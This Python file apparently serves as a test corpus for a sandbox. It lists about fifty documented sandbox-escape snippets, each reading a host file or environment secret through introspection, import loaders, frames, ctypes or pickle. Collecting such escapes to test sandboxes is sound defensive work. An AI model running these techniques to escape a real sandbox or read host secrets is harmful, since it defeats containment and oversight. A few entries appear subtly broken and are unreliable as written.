# SPDX-License-Identifier: Apache-2.0
"""Escapes from public reports on sandboxes within Python. Each gets what is
in the file `path`, or in the environment, where nothing stands around it; a
test shows that. {title: source}"""

TRICKS = {
    # ---- asked for plainly
    "open": "result = open(path).read()",
    "os by its name": "import os\nresult = os.popen('cat ' + path).read()",
    "os by __import__ in eval": "result = eval(\"__import__('os').popen('cat ' + path).read()\")",
    "subprocess": "import subprocess\nresult = subprocess.check_output(['cat', path])",
    "exec in exec in compile": "exec(compile('exec(\"result = open(path).read()\")', '<x>', 'exec'))",
    "pathlib": "import pathlib\nresult = pathlib.Path(path).read_text()",
    "codecs": "import codecs\nresult = codecs.open(path, 'r', 'latin-1').read()",
    "linecache": "import linecache\nresult = linecache.getlines(path)",
    "tokenize": "import tokenize\nresult = tokenize.open(path).read()",
    "fileinput": "import fileinput\nresult = list(fileinput.input([path]))",
    "io.FileIO": "import io\nresult = io.FileIO(path).read()",
    "io.open_code": "import io\nresult = io.open_code(path).read()",
    "posix.open": "import posix\nresult = posix.read(posix.open(path, 0), 100)",
    "mmap": "import mmap, os\nresult = mmap.mmap(os.open(path, 0), 0, prot=mmap.PROT_READ).read()",
    "logging's handler": "import logging\nresult = logging.FileHandler(path, 'r').stream.read()",
    "a shell by pty": "import pty, os\npid, fd = pty.fork()\nif not pid:\n    os.execv('/bin/cat', ['cat', path])\n"
                      "result = os.read(fd, 100)",
    "a child by fork": "import os\nr, w = os.pipe()\nif not os.fork():\n    os.write(w, open(path, 'rb').read())\n"
                       "    os._exit(0)\nresult = os.read(r, 100)",
    "the environment": "import os\nresult = os.environ['HOST_SECRET']",
    "the environment in C": "import posix\nresult = posix.environ[b'HOST_SECRET']",
    "the environment in /proc": "result = open('/proc/self/environ').read()",

    # ---- through the types
    "subclasses to a wrap of os": """
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "_wrap_close":
        result = cls.__init__.__globals__["popen"]("cat " + path).read()
""",
    "subclasses to FileLoader": """
for cls in ''.__class__.__mro__[-1].__subclasses__():
    for sub in (cls, *type.__subclasses__(cls)):
        if sub.__name__ == "FileLoader":
            result = sub("x", path).get_data(path)
""",
    "subclasses to warnings": """
import warnings
cls, = [c for c in object.__subclasses__() if c.__name__ == "catch_warnings"]
builtins = cls()._module.__builtins__
builtins = builtins if isinstance(builtins, dict) else vars(builtins)
result = builtins["open"](path).read()
""",
    "subclasses to what has os in its globals": """
def every(cls, seen):
    for sub in type.__subclasses__(cls):
        if sub not in seen:
            seen.add(sub)
            every(sub, seen)
    return seen

result = []
for cls in every(object, set()):
    try:
        there = cls.__init__.__globals__
    except AttributeError:
        continue
    for name in ("os", "_os", "posix", "subprocess"):
        if name in there and hasattr(there[name], "open"):
            result.append(there[name].read(there[name].open(path, 0), 100))
            break
""",
    "attrgetter along a chain": """
import operator
subclasses = operator.attrgetter("__class__.__base__.__subclasses__")(())()
loader = [c for c in subclasses if c.__name__ == "BuiltinImporter"][0]
posix = operator.methodcaller("load_module", "posix")(loader)
result = posix.read(posix.open(path, 0), 100)
""",
    "a metaclass of its own": """
class Meta(type):
    def __getitem__(cls, name):
        return object.__subclasses__()[0].__base__.__subclasses__()
class Key(metaclass=Meta):
    pass
loader = [c for c in Key["x"] if c.__name__ == "BuiltinImporter"][0]
posix = loader.load_module("posix")
result = posix.read(posix.open(path, 0), 100)
""",
    "format strings to globals": """
import string
class Look(string.Formatter):
    def get_field(self, name, args, kwargs):
        self.found, key = super().get_field(name, args, kwargs)
        return self.found, key
look = Look()
look.format("{0.__class__.format.__globals__[__builtins__]}", look)
builtins = look.found if isinstance(look.found, dict) else vars(look.found)
result = builtins["open"](path).read()
""",

    # ---- through frames
    "frames of a generator": """
def generator():
    yield generator.running.gi_frame
generator.running = generator()
frame = next(generator.running)
while frame.f_back:
    frame = frame.f_back
result = frame.f_builtins["open"](path).read()
""",
    "frames of a traceback": """
try:
    1 / 0
except ZeroDivisionError as error:
    frame = error.__traceback__.tb_frame
result = frame.f_globals["__builtins__"]
result = (result if isinstance(result, dict) else vars(result))["open"](path).read()
""",
    "sys._getframe": """
import sys
frame, found = sys._getframe(), []
while frame:
    found.append(frame.f_builtins["open"])
    frame = frame.f_back
result = found[-1](path).read()
""",
    "a trace function": """
import sys
found = []
def trace(frame, event, arg):
    found.append(frame.f_builtins["open"])
sys.settrace(trace)
(lambda: 1)()
sys.settrace(None)
result = found[0](path).read()
""",
    "the globals of a library's function": """
import statistics
there = statistics.mean.__globals__["__builtins__"]
there = there if isinstance(there, dict) else vars(there)
result = there["__import__"]("posix").open(path, 0)
import posix
result = posix.read(result, 100)
""",
    "a coroutine's frame": """
async def coroutine():
    pass
c = coroutine()
result = c.cr_frame.f_builtins["open"](path).read()
c.close()
""",

    # ---- through what is loaded
    "sys.modules": "import sys\nposix = sys.modules['posix']\nresult = posix.read(posix.open(path, 0), 100)",
    "modules by gc": """
import gc, types
result = []
for thing in gc.get_objects():
    if isinstance(thing, types.ModuleType) and thing.__name__ in ("posix", "os"):
        result.append(thing.read(thing.open(path, 0), 100))
""",
    "modules by gc, in dicts": """
import gc
result = []
for thing in gc.get_objects():
    if type(thing) is dict and "posix" in thing and hasattr(thing["posix"], "open"):
        result.append(thing["posix"].read(thing["posix"].open(path, 0), 100))
        break
""",
    "builtins by gc": """
import gc
for thing in gc.get_objects():
    if type(thing) is dict and "open" in thing and "__build_class__" in thing:
        result = thing["open"](path).read()
        break
""",
    "__builtins__ put back": """
saved = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
scope = {"__builtins__": {}}
exec("def f(): return ().__class__.__base__", scope)
scope["__builtins__"].update(saved)
result = eval("open(path).read()", scope, {"path": path})
""",

    # ---- through the import system
    "importlib's loader of files": """
import importlib.machinery
result = importlib.machinery.SourceFileLoader("x", path).get_data(path)
""",
    "the loader of a frozen module": """
import sys
external = sys.modules["_frozen_importlib_external"]
result = external.FileLoader("x", path).get_data(path)
""",
    "BuiltinImporter": """
import sys
posix = sys.modules["_frozen_importlib"].BuiltinImporter.load_module("posix")
result = posix.read(posix.open(path, 0), 100)
""",
    "_imp.create_builtin": """
import sys
imp = sys.modules["_imp"]
spec = sys.modules["_frozen_importlib"].ModuleSpec("posix", None)
posix = imp.create_builtin(spec)
imp.exec_builtin(posix)
result = posix.read(posix.open(path, 0), 100)
""",
    "sys.meta_path of its own": """
import sys
bootstrap = sys.modules["_frozen_importlib"]
sys.meta_path[:] = [bootstrap.BuiltinImporter, bootstrap.FrozenImporter]
sys.modules.pop("posix", None)
import posix
result = posix.read(posix.open(path, 0), 100)
""",
    "a path hook put back": """
import sys
external = sys.modules["_frozen_importlib_external"]
finder = external.FileFinder("/", (external.SourceFileLoader, [".txt"]))
result = finder.path_hook((external.SourceFileLoader, [".txt"]))("/").find_spec
result = external.SourceFileLoader("x", path).get_data(path)
""",
    "zipimport": """
import zipimport, sys
result = zipimport._io.open_code(path).read()
""",
    "runpy": """
import runpy
try:
    runpy.run_path(path)
except SyntaxError as error:
    result = error.text
except NameError as error:
    result = str(error)
""",

    # ---- through machine code and serialisation
    "ctypes": """
import ctypes
libc = ctypes.CDLL(None)
buffer = ctypes.create_string_buffer(100)
libc.read(libc.open(path.encode(), 0), buffer, 100)
result = buffer.value
""",
    "ctypes to the memory of its own": """
import ctypes
ctypes.pythonapi.PyRun_SimpleString(b"import builtins; builtins.kept = open(%r).read()" % path.encode())
import builtins
result = builtins.kept
""",
    "a pickle": """
import pickle
result = pickle.loads(b"c__builtin__\\neval\\n(V__import__('posix').popen if 0 else open(" + repr(path).encode() +
                      b").read()\\ntR.")
""",
    "__reduce__": """
import copy
class Evil:
    def __reduce__(self):
        return eval, ("open(%r).read()" % path,)
result = copy.copy(Evil())
""",
    "marshalled code": """
import marshal
code = marshal.loads(marshal.dumps(compile("result = open(path).read()", "<x>", "exec")))
exec(code)
""",
    "a code object made by hand": """
def f():
    return reader(path)
code = f.__code__.replace(co_names=("open", "path"))
if code.co_code == f.__code__.co_code:
    result = type(f)(code, {"open": open, "path": path})().read()
""",
}
